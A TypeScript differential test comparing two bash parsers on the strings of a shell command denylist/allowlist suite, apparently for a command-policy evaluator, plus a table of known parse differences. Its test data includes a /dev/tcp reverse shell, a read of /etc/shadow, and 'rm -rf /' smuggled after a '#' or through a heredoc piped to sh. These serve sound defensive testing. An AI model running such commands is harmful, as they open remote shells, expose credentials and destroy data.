// Differential test: mvdan-sh and tree-sitter-bash over every command string of the shell policy suites
// and an everyday corpus, comparing the tree the evaluator reads (words as parts, redirects, assignments,
// substitutions; no positions exist in it). Every known difference is listed with its reason and
// asserted, so a new one fails here.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import ts from 'typescript';
import { parseShell as mvdan } from '../../policies/shell/syntax/mvdan.js';
import { initTreeSitter, parseShell as treeSitter } from '../../policies/shell/syntax/tree-sitter.js';
import type { ParseResult } from '../../policies/shell/syntax/tree.js';

const here = join(process.cwd(), 'test/policies');
const suiteFiles = [
  ...readdirSync(join(here, 'denylist'))
    .filter((f) => f.endsWith('.ts'))
    .map((f) => join(here, 'denylist', f)),
  join(here, 'shell-denylist.test.ts'),
  join(here, 'shell-allowlist.test.ts'),
];

/** Every string literal in the suites: commands, and a few rule names and titles (parsed all the same). */
function suiteStrings(): string[] {
  const out = new Set<string>();
  for (const file of suiteFiles) {
    const src = ts.createSourceFile(file, readFileSync(file, 'utf8'), ts.ScriptTarget.ES2022, true);
    const visit = (n: ts.Node): void => {
      if (ts.isStringLiteral(n) || ts.isNoSubstitutionTemplateLiteral(n)) out.add(n.text);
      ts.forEachChild(n, visit);
    };
    visit(src);
  }
  return [...out];
}

const EVERYDAY = [
  'git status --short',
  'git log --oneline -n 5 | head -3',
  'git commit -m "fix: the thing"',
  'npm test -- --runInBand',
  'npm run build && npm test',
  'ls -la | grep foo',
  'ls | grep -v x | wc -l',
  "find . -name '*.ts' -exec grep -l TODO {} \\;",
  'find . -type f -exec rm {} +',
  'cat <<EOF\nhello $USER\nEOF',
  "cat <<'EOF' > notes.txt\nno $expansion here\nEOF",
  'for f in *.ts; do wc -l "$f"; done',
  'for ((i=0; i<3; i++)); do echo $i; done',
  'while read -r line; do echo "$line"; done < file.txt',
  'until false; do break; done',
  '(cd build && make)',
  '{ echo a; echo b; } > out.txt',
  'echo $(date +%s) `whoami`',
  'echo $((1 + 2 * 3))',
  'case "$1" in start|run) echo go;; *) echo no;; esac',
  'f() { echo hi; }; f',
  'if [ -f .env ]; then echo found; elif [ -d x ]; then echo dir; else echo missing; fi',
  '[[ -n "$HOME" ]] && echo set',
  'export NODE_ENV=production',
  'local x=1',
  'X=1 Y=2 node app.js',
  'arr=(a b c); echo ${arr[1]}',
  'echo ${HOME:-/root} ${#PATH} ${x/a/b} ${x//a/b} ${x%%.*} ${x#*/}',
  'diff <(sort a) <(sort b)',
  'ls 2>/dev/null x',
  'make > build.log 2>&1 &',
  'echo {a,b}.txt {1..3} x{a,{b,c}}y',
  'echo "{a,b}" \\{a,b\\}',
  'tar czf - . | ssh host "cat > a.tgz"',
  'a | b > f',
  'a && b > f',
  'echo "x"#; rm -rf /',
  "echo 'x'#; rm -rf /",
  'echo $v#; rm -rf /',
  'echo a # a comment',
  'cat <<<"$x"',
  '! grep -q x f',
  'sleep 1 & wait',
  'unset FOO',
];

type Norm = { ok: true; tree: string } | { ok: false };
// `src` is display text only (and mvdan's is off inside split braces); adjacent literals are one literal.
const mergeLits = (k: string, v: unknown): unknown => {
  if (k === 'src') return undefined;
  if (k !== 'parts' || !Array.isArray(v)) return v;
  const out: { t: string; v?: string; dq?: boolean }[] = [];
  for (const p of v as { t: string; v?: string; dq?: boolean }[]) {
    const last = out[out.length - 1];
    if (p.t === 'lit' && p.v === '') continue;
    if (p.t === 'lit' && last?.t === 'lit' && last.dq === p.dq) out[out.length - 1] = { ...last, v: `${last.v}${p.v}` };
    else out.push(p);
  }
  return out;
};
const norm = (r: ParseResult): Norm => (r.ok ? { ok: true, tree: JSON.stringify(r.script.stmts, mergeLits) } : { ok: false });

/**
 * Known differences: text -> why. `treeSitter` = tree-sitter is right (mvdan's reading is a bug), `refused`
 * = tree-sitter's glue refuses a form mvdan reads (fail closed: denied, not wrongly allowed).
 */
const KNOWN: Record<string, { who: 'treeSitter' | 'refused' | 'mvdan'; why: string }> = {
  done: { who: 'mvdan', why: 'a bare "done" is a syntax error in bash; tree-sitter takes it as a command name' },
  'echo "x"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  "echo 'x'#": { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  'echo $v#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  'echo ${v}#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  'echo a"b"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  'echo $(true)#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  'echo `true`#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  'echo $((1))#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  "echo $'x'#": { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  'echo "\u00e9"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  'v="x"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  'echo ok && echo "x"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  'echo "$v"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  'julia <<EOF\nrun(`id`)\nEOF': { who: 'refused', why: 'tree-sitter leaves `...` in an unquoted heredoc as text (bash runs it): the glue refuses' },
  'function called with the dangerous arguments': { who: 'refused', why: '`function NAME CMD` without braces: tree-sitter errors (fail closed)' },
  'function after shift': { who: 'refused', why: '`function NAME CMD` without braces: tree-sitter errors (fail closed)' },
  'cat /etc/@(shadow)': { who: 'refused', why: 'extglob: tree-sitter errors (fail closed)' },
  'time rm -rf build': { who: 'mvdan', why: 'tree-sitter has no `time` keyword: a call to `time` (the evaluator unwraps it as a wrapper)' },
  'time npm test': { who: 'mvdan', why: 'tree-sitter has no `time` keyword: a call to `time` (the evaluator unwraps it as a wrapper)' },
  'time ls': { who: 'mvdan', why: 'tree-sitter has no `time` keyword: a call to `time` (the evaluator unwraps it as a wrapper)' },
  '{rm,-rf,/}': { who: 'refused', why: 'a brace expansion as the command word: tree-sitter errors (fail closed)' },
  'cat <<EOF | sh\nrm -rf /\nEOF': { who: 'refused', why: 'a pipeline on the heredoc line: tree-sitter nests it in the redirect; the glue refuses' },
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1': {
    who: 'refused',
    why: 'tree-sitter reads `0>&1` after `>&` as an argument 0 and a redirect without fd: the glue refuses',
  },
  'exec 3<>/dev/tcp/host/80': { who: 'refused', why: '`<>` after an fd: tree-sitter errors (fail closed)' },
  "cat <<'EOF' > notes.txt\nno $expansion here\nEOF": { who: 'mvdan', why: 'the quoted heredoc delimiter is kept as literal text, not as a quoted word' },
  'echo "{a,b}" \\{a,b\\}': { who: 'treeSitter', why: 'an escaped brace: mvdan splits \\{a,b\\} into a brace (its bug); the glue keeps it literal' },
  'echo "x"#; rm -rf /': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  "echo 'x'#; rm -rf /": { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
  'echo $v#; rm -rf /': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
};

beforeAll(async () => {
  await initTreeSitter();
});

test('after initTreeSitter it parses; the # cases are where tree-sitter is right', () => {
  expect(treeSitter('ls -la').ok).toBe(true);
  const hash = Object.entries(KNOWN).filter(([t]) => t.startsWith('echo "x"#; rm'));
  expect(hash).toEqual([['echo "x"#; rm -rf /', expect.objectContaining({ who: 'treeSitter' })]]);
  const r = treeSitter('echo "x"#; rm -rf /');
  expect(r.ok && r.script.stmts.length).toBe(2); // bash runs rm as a second command
});

test('both parsers read the same tree, except the listed differences', () => {
  const corpus = [...new Set([...suiteStrings(), ...EVERYDAY])];
  expect(corpus.length).toBeGreaterThan(400);
  const found: Record<string, string> = {};
  for (const text of corpus) {
    const a = norm(mvdan(text));
    const b = norm(treeSitter(text));
    if (JSON.stringify(a) !== JSON.stringify(b)) found[text] = `${a.ok ? 'mvdan ok' : 'mvdan refuses'} / ${b.ok ? 'tree-sitter ok' : 'tree-sitter refuses'}`;
  }
  if (process.env.DIFF_DUMP) {
    for (const t of Object.keys(found)) {
      const m = mvdan(t);
      const s = treeSitter(t);
      console.log(
        JSON.stringify(t),
        found[t],
        '\n mv',
        m.ok ? JSON.stringify(m.script.stmts, mergeLits) : m.error,
        '\n ts',
        s.ok ? JSON.stringify(s.script.stmts, mergeLits) : s.error,
      );
    }
  }
  expect(Object.keys(found).sort()).toEqual(Object.keys(KNOWN).sort());
  // and each is the listed kind: 'refused' exactly where the tree-sitter glue refuses
  const refusedNow = Object.keys(found).filter((t) => found[t]!.endsWith('tree-sitter refuses'));
  expect(refusedNow.sort()).toEqual(
    Object.keys(KNOWN)
      .filter((t) => KNOWN[t]!.who === 'refused')
      .sort(),
  );
});
